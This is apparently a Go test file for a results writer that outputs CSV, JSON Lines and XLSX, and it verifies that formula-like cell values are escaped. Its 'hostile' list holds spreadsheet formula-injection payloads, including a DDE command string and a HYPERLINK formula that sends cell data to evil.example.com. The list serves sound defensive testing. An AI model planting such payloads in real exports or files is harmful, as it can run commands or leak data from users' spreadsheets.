package batches

import (
	"bytes"
	"encoding/csv"
	"io"
	"reflect"
	"runtime"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"sluice/flow"
	"sluice/flow/value"
)

// written returns a file of results.
func written(t *testing.T, w *Results, rows ...map[string]any) string {
	t.Helper()
	var b bytes.Buffer
	w.To(&b)
	for _, row := range rows {
		o := &flow.Object{}
		for name, v := range row {
			o.Set(name, v)
		}
		r := &flow.ChildResult{RunID: "run_1", State: flow.RunSucceeded, Outputs: value.FromMap(map[string]any{"out": row["a"]})}
		if err := w.Write(o, r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// hostile are texts of cells that programs for tables would execute, and texts that break a careless writer.
var hostile = []string{"=1+1", "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", `=HYPERLINK("http://evil.example.com?x="&A1,"Click")`, "a,b;c\td", "\"quoted\"\nline", "]]></t><t>&amp;", "\x00\x0b"}

func TestResults_of_hostile_cells_are_no_formulas(t *testing.T) {
	t.Parallel()
	var rows []map[string]any
	for _, s := range hostile {
		rows = append(rows, map[string]any{"a": s})
	}
	for _, n := range []string{"-1.5", "+3", "-1e3", "0", "2026-11-28"} {
		rows = append(rows, map[string]any{"a": n})
	}
	read, err := csv.NewReader(strings.NewReader(written(t, NewResults("csv", []string{"a", "=evil"}, []string{"out"}, true), rows...))).ReadAll()
	if err != nil || len(read) != len(rows)+1 {
		t.Fatalf("%d rows, %v", len(read), err)
	}
	if read[0][1] != "'=evil" {
		t.Errorf("the header has %q", read[0][1])
	}
	for i, row := range read[1:] {
		text := rows[i]["a"].(string)
		want := text
		if i < 8 {
			want = "'" + text
		}
		want = strings.ReplaceAll(want, "\r\n", "\n")
		for _, at := range []int{0, 2} {
			if row[at] != want {
				t.Errorf("%q is written as %q, want %q", text, row[at], want)
			}
		}
	}
	raw := written(t, NewResults("csv", []string{"a"}, nil, false), map[string]any{"a": "=1+1"})
	if !strings.Contains(raw, "\n=1+1,") {
		t.Errorf("raw: %s", raw)
	}
	lines := written(t, NewResults("jsonl", []string{"a"}, []string{"out"}, true), map[string]any{"a": "=1+1"})
	if !strings.HasPrefix(lines, `{"a":"=1+1","out":"=1+1","_status":"succeeded"`) {
		t.Errorf("JSON Lines: %s", lines)
	}
	book, err := excelize.OpenReader(strings.NewReader(written(t, NewResults("xlsx", []string{"a"}, []string{"out"}, true), rows...)))
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows[:11] {
		at, _ := excelize.CoordinatesToCellName(1, i+2)
		cell, _ := book.GetCellValue("Results", at)
		formula, _ := book.GetCellFormula("Results", at)
		if want := strings.ReplaceAll(row["a"].(string), "\r", "\n"); formula != "" || strings.ReplaceAll(cell, "\r", "\n") != want {
			t.Errorf("%q is the cell %q with the formula %q", row["a"], cell, formula)
		}
	}
}

func TestResults_keep_the_columns_of_results_that_are_uploaded_again(t *testing.T) {
	t.Parallel()
	w := NewResults("csv", []string{"a", "out", "_status"}, []string{"out"}, true)
	read, err := csv.NewReader(strings.NewReader(written(t, w, map[string]any{"a": "1", "out": "2", "_status": "failed"}))).ReadAll()
	want := [][]string{{"a", "out (table)", "_status (table)", "out", "_status", "_code", "_error", "_run_id", "_usd"}, {"1", "2", "failed", "1", "succeeded", "", "", "run_1", "0.00"}}
	if err != nil || !reflect.DeepEqual(read, want) {
		t.Errorf("got %q, %v, want %q", read, err, want)
	}
	lines := written(t, NewResults("jsonl", []string{"a", "out"}, []string{"out"}, true), map[string]any{"a": "1", "out": "2"})
	if !strings.HasPrefix(lines, `{"a":"1","out (table)":"2","out":"1","_status":"succeeded"`) {
		t.Errorf("JSON Lines: %s", lines)
	}
}

// TestResults_take_no_memory_for_rows writes far more than it may hold.
func TestResults_take_no_memory_for_rows(t *testing.T) {
	for _, format := range []string{"csv", "jsonl", "xlsx"} {
		w := NewResults(format, []string{"a"}, []string{"out"}, true)
		w.To(io.Discard)
		row := value.FromMap(map[string]any{"a": strings.Repeat("x", 10_000)})
		var before, after runtime.MemStats
		write := func(n int) {
			for range n {
				if err := w.Write(row, nil); err != nil {
					t.Fatal(err)
				}
			}
		}
		write(100)
		runtime.GC()
		runtime.ReadMemStats(&before)
		write(2_000) // 20 MB
		runtime.GC()
		runtime.ReadMemStats(&after)
		if grown := int64(after.HeapAlloc) - int64(before.HeapAlloc); grown > 4<<20 {
			t.Errorf("%s holds %d bytes more after 20 MB of rows", format, grown)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}
}
